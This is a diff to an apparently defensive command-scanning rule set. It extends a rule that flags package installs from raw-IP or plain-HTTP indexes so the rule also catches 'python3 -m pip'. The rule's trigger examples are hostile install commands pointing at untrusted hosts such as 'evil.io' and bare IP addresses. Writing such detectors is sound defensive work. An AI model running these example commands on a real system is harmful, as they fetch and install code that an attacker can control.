@@ -990,8 +990,10 @@ export const RULES: readonly Rule[] = [
   {
     id: 'PX-C2-014', name: 'installs-from-untrusted-index', score: 55, tactic: 'command_and_control', technique: 'T1105',
     message: 'Installs packages from an unknown or raw-IP package index', why: 'A package index on a raw IP or plain-HTTP host can serve any code under a familiar package name.',
-    commands: ['pip', 'pip3', 'uv', 'npm', 'pnpm', 'yarn', 'gem', 'poetry', 'pipx'],
+    commands: ['pip', 'pip3', 'uv', 'npm', 'pnpm', 'yarn', 'gem', 'poetry', 'pipx', 'python', 'python3'],
     test: (c) => {
+      // (pip as the interpreter's module: `python3 -m pip install --index-url …`)
+      if ((c.name === 'python' || c.name === 'python3') && !c.argv.some((w, k) => w === '-m' && /^pipx?3?$/.test(c.argv[k + 1] ?? ''))) return undefined;
       for (let i = 1; i < c.argv.length; i++) {
         const w = c.argv[i]!;
         const flag = ['-i', '--index-url', '--extra-index-url', '--registry', '--source', '--index', '--default-index'].includes(w);
@@ -1001,7 +1003,7 @@ export const RULES: readonly Rule[] = [
       }
       return undefined;
     },
-    examples: { fire: ['pip install --index-url http://45.33.12.7:8080/simple/ --trusted-host 45.33.12.7 requests', 'npm install --registry http://evil.io:4873 lodash', 'pip3 install -i http://203.0.113.5/simple flask'], quiet: ['pip install requests', 'npm install --registry https://registry.npmjs.org lodash', 'pip install --index-url https://download.pytorch.org/whl/cpu torch'] },
+    examples: { fire: ['python3 -m pip install --index-url http://45.137.22.91:8080/simple --trusted-host 45.137.22.91 requests', 'pip install --index-url http://45.33.12.7:8080/simple/ --trusted-host 45.33.12.7 requests', 'npm install --registry http://evil.io:4873 lodash', 'pip3 install -i http://203.0.113.5/simple flask'], quiet: ['pip install requests', 'npm install --registry https://registry.npmjs.org lodash', 'pip install --index-url https://download.pytorch.org/whl/cpu torch'] },
   },
   {
     id: 'PX-C2-015', name: 'runs-hostile-command-string', score: 85, tactic: 'command_and_control', technique: 'T1059.004', strong: true,
